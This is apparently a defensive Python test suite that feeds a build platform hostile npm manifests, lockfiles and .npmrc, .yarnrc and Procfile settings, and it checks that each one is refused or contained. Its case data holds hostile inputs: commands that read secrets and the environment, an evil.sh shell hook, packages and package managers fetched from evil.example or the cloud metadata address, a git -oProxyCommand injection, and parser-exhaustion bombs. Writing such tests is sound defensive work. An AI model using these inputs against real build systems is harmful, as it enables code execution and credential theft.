"""package.json, lockfiles and settings of package managers that ask for more than packages."""

import json

from tests.hostile.case import BUILD, Case, Connector, Contained, Files, Found, Package, Refused
from tests.hostile.cases.connectors import EMPTY_LOCK, building, honest, locked
from tests.hostile.cases.packages import packed

A = "node_modules/a"
WHOLE = packed({"package/package.json": b'{"name":"a","version":"1.0.0"}'})
TARBALL = {"/a/-/a-1.0.0.tgz": Package(WHOLE)}
PRINT = "cat @FOLDER@/secret @WORKSPACE@/source/secret; env; echo ran\n"


QUICK = {"build_timeout": 6}
"""Package managers ask again for what they cannot have: nobody waits for that here."""


def manifest(text: str) -> Files:
    return {**honest(), "service/package.json": text}


def configured(**files: str) -> Files:
    """A service with files such as ``_npmrc`` in it, and a build that ends well."""
    return building("echo fine", **files)


def lock(entry: dict[str, object], version: str = "1.0.0") -> Files:
    return locked("a", version, {A: entry})


def case(name: str, tries: str, files: Files, ends: Refused | Contained | Found) -> Case:
    return Case("manifests", name, tries, Connector(files, TARBALL), ends, QUICK)


def lockfile(name: str, tries: str, files: Files, ends: Refused | Contained | Found) -> Case:
    return Case("lockfiles", name, tries, Connector(files, TARBALL), ends, QUICK)


def huge_lock() -> Files:
    entries: dict[str, object] = {
        f"node_modules/p{n}": {"version": "1.0.0", "optional": True, "os": ["none"],
                               "resolved": f"https://registry.npmjs.org/p{n}/-/p{n}-1.0.0.tgz"}
        for n in range(100_000)
    }  # fmt: skip
    lines = {**EMPTY_LOCK, "packages": {"": {"name": "x"}, **entries}}
    return {**honest(), "service/package-lock.json": json.dumps(lines)}


BROKEN = Refused(BUILD, "not valid JSON|not a JSON object|nested too deeply")
FINE = Contained()
CASES = (
    case("nested package.json", "to be nested deeper than any stack",
         manifest('{"a":' * 50_000 + "1" + "}" * 50_000), BROKEN),
    case("list as package.json", "to be another shape", manifest("[[[]]]"), BROKEN),
    case("huge name", "a name of 5 MB", manifest(json.dumps({"name": "x" * 5_000_000,
         "scripts": {"start": "node index.js"}})), FINE),
    case("prototype in package.json", "the prototype of all objects",
         manifest('{"__proto__": {"scripts": {"build": "id"}}, "constructor": {"prototype": 1}, '
                  '"scripts": {"start": "node index.js", "__proto__": "id"}}'), FINE),
    case("a script twice", "to show one script and run another",
         manifest('{"scripts": {"start": "node index.js", "build": "true", "build": "exit 7"}}'),
         Refused(BUILD, "ended with code 7")),
    case("endless range of versions", "to make the reader of ranges slow",
         honest(engines={"node": " || ".join(["1"] * 20_000)}), Refused(BUILD, "Node")),
    case("bait range of versions", "the same by backtracking",
         honest(engines={"node": ">=" + " " * 200 + "x" * 30 + "!"}), Refused(BUILD, "Node")),
    case("package manager by address", "a package manager of its own",
         honest(packageManager="yarn@https://evil.example/yarn.js"), FINE),
    case("package manager by path", "a package manager in the repository",
         honest(packageManager="pnpm@file:./evil.tgz"), FINE),
    Case("manifests", "NUL in a script", "a command that ends early",
         Connector(building("echo a\0; id")), Refused(BUILD, "NUL character")),
    case("script-shell", "another shell for every script",
         {**configured(_npmrc="script-shell=./evil.sh\n", evil_sh=PRINT)}, FINE),
    case("git setting", "a program of its own in place of git",
         configured(_npmrc="git=./evil.sh\ngit-tag-version=false\n", evil_sh=PRINT), FINE),
    case("node-options setting", "to be loaded into npm",
         configured(_npmrc="node-options=--require ./evil.js\n",
                    evil_js="console.log(require('fs').readFileSync('@FOLDER@/secret'))"), FINE),
    case("prefix setting", "to install all over the host",
         configured(_npmrc="prefix=@FOLDER@\nglobal=true\ncache=@FOLDER@/cache\n"), FINE),
    case("cafile setting", "a file of the host as certificates",
         configured(_npmrc="cafile=@FOLDER@/secret\nuserconfig=@FOLDER@/secret\n"), FINE),
    case("registry setting", "another registry: a service of the host",
         {**lock({"version": "1.0.0", "resolved": "http://127.0.0.1:@PORT@/a/-/a-1.0.0.tgz"}),
          "service/.npmrc": "registry=http://127.0.0.1:@PORT@/\n"}, Contained("Failed")),
    case("proxy setting", "all requests through a service of the host",
         {**lock({"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}),
          "service/.npmrc": "proxy=http://127.0.0.1:@PORT@\nnoproxy=\n"}, FINE),
    case("token from the environment", "the platform's variables in a request",
         {**lock({"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}),
          "service/.npmrc": "//127.0.0.1:@PORT@/:_authToken=${PLATFORM_SECRET}\n"}, FINE),
    case("workspaces outside", "folders above as workspaces",
         {**honest(), "package.json": '{"workspaces": ["../../**", "/etc/*", "service"]}',
          "package-lock.json": json.dumps(EMPTY_LOCK)}, FINE),
    case("Procfile with more", "a second command at the start",
         {**honest(), "service/Procfile": "web: node index.js; cat @FOLDER@/secret\nrelease: id\n"},
         FINE),
    case("modules in the repository", "packages of its own under an honest lockfile",
         {**lock({"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}),
          "service/node_modules/a/index.js": "module.exports = 'poison'"},
         Found("specification/committed-modules")),
    lockfile("another registry", "packages of a host nobody allowed",
             lock({"version": "1.0.0", "resolved": "https://evil.example/a/-/a-1.0.0.tgz",
                   "integrity": "sha512-x"}), Found("dependencies/foreign-source")),
    lockfile("plain http", "packages that anybody on the way can change",
             lock({"version": "1.0.0", "resolved": "http://registry.npmjs.org/a/-/a-1.0.0.tgz"}),
             Found("dependencies/foreign-source")),
    lockfile("service of the host", "a package from the host's loopback",
             lock({"version": "1.0.0", "resolved": "http://127.0.0.1:@PORT@/a.tgz"}),
             Contained("Failed")),
    lockfile("metadata in a lockfile", "a package from the cloud's secrets",
             lock({"version": "1.0.0", "resolved": "http://169.254.169.254/a.tgz"}),
             Contained("Failed")),
    lockfile("git host", "a package from a Git server",
             lock({"version": "1.0.0", "resolved": "git+ssh://git@github.com/o/a.git#" + "1" * 40},
                  "github:o/a"), Contained("Failed")),
    lockfile("git option", "an option of git as an address",
             lock({"version": "1.0.0", "resolved": "git+ssh://-oProxyCommand=id/x#" + "1" * 40},
                  "git+ssh://-oProxyCommand=id/x"), Contained("Failed")),
    lockfile("git file", "a package from the host's disk by git",
             lock({"version": "1.0.0", "resolved": "git+file://@FOLDER@#" + "1" * 40},
                  "git+file://@FOLDER@"), Contained("Failed")),
    lockfile("file outside", "a folder of the host as a package",
             honest(dependencies={"a": "file:../../../../@FOLDER@"}),
             Refused(BUILD, "no package in the repository")),
    lockfile("archive outside", "an archive of the host as a package",
             lock({"version": "file:@FOLDER@/secret.tgz", "resolved": "file:@FOLDER@/secret.tgz"},
                  "file:@FOLDER@/secret.tgz"), Contained("Failed")),
    lockfile("link outside", "a link to a folder of the host",
             lock({"resolved": "../../../@FOLDER@", "link": True}), Contained()),
    lockfile("alias", "another package under a trusted name",
             lock({"name": "evil", "version": "1.0.0",
                   "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}, "npm:evil@1.0.0"), FINE),  # noqa: E501
    lockfile("wrong integrity", "other bytes than were locked",
             lock({"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
                   "integrity": "sha512-" + "A" * 86 + "=="}), Contained("Failed")),
    lockfile("no integrity", "any bytes at all",
             lock({"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}),
             Found("dependencies/integrity-missing")),
    lockfile("place outside", "to be installed beside the application",
             locked("a", "1.0.0", {"../../@FOLDER@/node_modules/a": {
                 "version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}), FINE),  # noqa: E501
    lockfile("prototype in a lockfile", "the prototype of all objects",
             {**honest(), "service/package-lock.json":
              '{"lockfileVersion": 3, "packages": {"": {}, "__proto__": {"x": 1}, '
              '"node_modules/__proto__": {"version": "1.0.0", "optional": true}}}'}, FINE),
    lockfile("100,000 packages", "to be read for ever", huge_lock(), FINE),
    lockfile("packages in a circle", "to be walked for ever",
             {**honest(dependencies={"b": "file:../b"}),
              "b/package.json": '{"name": "b", "dependencies": {"c": "file:../c"}}',
              "c/package.json": '{"name": "c", "dependencies": {"b": "file:../b"}}'}, FINE),
    lockfile("nested lockfile", "to be nested deeper than any stack",
             {**honest(), "service/package-lock.json":
              '{"packages": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}"}, Contained("Failed")),  # noqa: E501
    lockfile("NUL lockfile", "to be no text",
             {**honest(), "service/package-lock.json": b"\0\xff" * 10_000}, Contained("Failed")),
    lockfile("bait yarn.lock", "to make the reader of lockfiles slow",
             {**{k: v for k, v in honest().items() if "lock" not in k},
              "service/yarn.lock": "# yarn lockfile v1\n\n" + '"' + "a@" * 200_000 + "\n"
              + "  resolved " + '"' * 100_000}, FINE),
    lockfile("bait pnpm-lock.yaml", "to multiply aliases in a lockfile",
             {**{k: v for k, v in honest().items() if "lock" not in k},
              "service/pnpm-lock.yaml": "lockfileVersion: '9.0'\nx0: &x0 [a]\n" + "".join(
                  f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 10))},
             FINE),
    lockfile("yarn-path", "a package manager in the repository, for yarn",
             {**{k: v for k, v in honest().items() if "lock" not in k},
              "service/yarn.lock": "# yarn lockfile v1\n\n\n",
              "service/.yarnrc": 'yarn-path "./evil.js"\n--install.scripts "x"\n',
              "service/evil.js": "console.log('EVIL' + ' RAN'); process.exit(3)"},
             Contained(never="EVIL RAN")),
)  # fmt: skip
